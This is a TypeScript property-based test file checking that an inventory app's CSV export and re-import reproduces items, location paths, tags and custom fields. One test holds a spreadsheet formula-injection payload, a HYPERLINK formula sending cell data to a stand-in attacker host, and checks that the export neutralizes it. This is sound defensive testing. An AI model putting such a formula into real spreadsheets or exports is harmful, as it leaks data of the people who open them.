import fc from "fast-check";
import { entityEndpoints, entityTypeEndpoints, EntityOut } from "../../contract";
import { describe, expect, it } from "vitest";
import { signUp, type Session } from "../support/client";
import { importCsvText } from "../support/csv-upload";
import { useSignedInService } from "../support/signed-in-service";

/** Names the CSV can carry: no "/" (a path separator) nor ";" (the tag separator), not blank. */
const name = fc
  .stringMatching(/^[A-Za-zÄÖÜäöüß0-9 ,"'.\n-]{1,12}$/)
  .map((s) => s.trim())
  .filter((s) => s !== "" && !s.includes("\n"));
/** Texts with what spreadsheets read as formulas (`=`, `+`, `-`, `@`, tab) and the export's `'` prefix. */
const text = fc.oneof(
  fc.stringMatching(/^[A-Za-z0-9 ,"'\n.-]{0,20}$/),
  fc.stringMatching(/^'{0,2}[=+@\t-][A-Za-z0-9 ,"'.-]{0,10}$/),
);

const inventory = fc.record({
  locations: fc.uniqueArray(fc.record({ name, parent: fc.nat() }), {
    minLength: 1,
    maxLength: 5,
    selector: (l) => l.name,
  }),
  tags: fc.uniqueArray(name, { maxLength: 4 }),
  items: fc.array(
    fc.record({
      name,
      description: text,
      quantity: fc.integer({ min: 0, max: 1000 }),
      purchasePrice: fc.double({ min: 0, max: 1e6, noNaN: true }).map((n) => Math.round(n * 100) / 100),
      insured: fc.boolean(),
      archived: fc.boolean(),
      purchaseDate: fc.constantFrom("", "2024-02-29", "1999-12-31"),
      location: fc.nat(),
      tags: fc.array(fc.nat(), { maxLength: 3 }),
      fields: fc.uniqueArray(fc.record({ name, value: text.filter((v) => v !== "") }), {
        maxLength: 3,
        selector: (f) => f.name,
      }),
      inPrevious: fc.boolean(),
    }),
    { minLength: 1, maxLength: 6 },
  ),
});

type Inventory = typeof inventory extends fc.Arbitrary<infer T> ? T : never;

/** Builds the generated inventory in the group through the API. */
async function build(s: Session, inv: Inventory) {
  const types = (await s.call(entityTypeEndpoints.list)).body as Array<{ id: string; isLocation: boolean }>;
  const locationType = types.find((t) => t.isLocation)!.id;
  const locationIds: string[] = [];
  for (const [i, l] of inv.locations.entries()) {
    const parentId = i === 0 ? null : locationIds[l.parent % i];
    locationIds.push(
      (await s.call(entityEndpoints.create, { body: { name: l.name, entityTypeId: locationType, parentId } })).body.id,
    );
  }
  const tagIds: string[] = [];
  for (const t of inv.tags) tagIds.push((await s.req("POST", "/v1/tags", { name: t })).body.id);
  let previous: string | undefined;
  for (const item of inv.items) {
    const body = {
      ...item,
      parentId: item.inPrevious && previous ? previous : locationIds[item.location % locationIds.length],
      tagIds: tagIds.length ? [...new Set(item.tags.map((t) => tagIds[t % tagIds.length]))] : [],
      fields: item.fields.map((f) => ({ name: f.name, type: "text", textValue: f.value })),
    };
    const res = await s.req("POST", "/v1/entities", body);
    if (res.status !== 201) throw new Error(JSON.stringify(res.body));
    previous = res.body.id;
  }
}

/** The group as the user sees it, without ids: every entity with its path, parent, tags and fields. */
async function view(s: Session) {
  const list = (await s.call(entityEndpoints.list, { query: { pageSize: "100", includeArchived: "true" } })).body
    .items as Array<{
    id: string;
  }>;
  const out: unknown[] = [];
  for (const { id } of list) {
    const e = EntityOut.parse((await s.call(entityEndpoints.get, { params: { id } })).body);
    const path = ((await s.call(entityEndpoints.path, { params: { id } })).body as Array<{ name: string }>).map(
      (p) => p.name,
    );
    out.push({
      path,
      type: e.entityType.name,
      description: e.description,
      quantity: e.quantity,
      purchasePrice: e.purchasePrice,
      insured: e.insured,
      archived: e.archived,
      purchaseDate: e.purchaseDate,
      assetId: e.assetId,
      location: e.location?.name ?? null,
      tags: e.tags.map((t) => t.name).sort(),
      // A CSV row has one column per field name, in name order: the order of fields is not kept.
      fields: e.fields.map((f) => [f.name, f.textValue]).sort(),
    });
  }
  return out.sort((a, b) => JSON.stringify(a).localeCompare(JSON.stringify(b)));
}

describe("CSV export → import into an empty group reproduces the inventory (property)", () => {
  const { svc } = useSignedInService({ names: [] });

  it("neutralizes cells a spreadsheet would run as formulas, and the import reads them back as they were", async () => {
    const [source, target] = [await signUp(svc, "Formulas"), await signUp(svc, "Formulas copy")];
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Details")';
    const res = await source.req("POST", "/v1/entities", {
      name: "+Drill",
      description: formula,
      notes: "@SUM(A1)",
      fields: [{ name: "Offset", type: "text", textValue: "-2" }],
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const csv = (await source.req("GET", "/v1/entities/export")).body as string;
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Details"")"`);
    expect(csv).toMatch(/,'\+Drill,/);
    expect(csv).toMatch(/,'@SUM\(A1\),/);
    expect(csv).toMatch(/,'-2\r\n/);
    expect((await importCsvText(target, csv)).status).toBe(200);
    expect(await view(target)).toEqual(await view(source));
    const [copy] = (await target.req("GET", "/v1/entities?q=Drill")).body.items as Array<{ name: string }>;
    expect(copy?.name).toBe("+Drill");
  });

  it("every item, location path, tag and custom field comes back", async () => {
    await fc.assert(
      fc.asyncProperty(inventory, async (inv) => {
        const source = await signUp(svc, "Source");
        const target = await signUp(svc, "Target");
        await build(source, inv);
        const csv = await source.req("GET", "/v1/entities/export");
        expect(csv.status).toBe(200);
        expect(csv.headers.get("content-type")).toMatch(/^text\/csv/);
        const imported = await importCsvText(target, csv.body as string);
        expect(imported.status, JSON.stringify(imported.body)).toBe(200);
        expect(await view(target)).toEqual(await view(source));
        // The same file again updates what it created (import refs) instead of doubling it.
        const again = await importCsvText(target, csv.body as string);
        expect(again.body).toMatchObject({ create: 0 });
        expect(await view(target)).toEqual(await view(source));
      }),
      { numRuns: 5 },
    );
  }, 180_000);
});
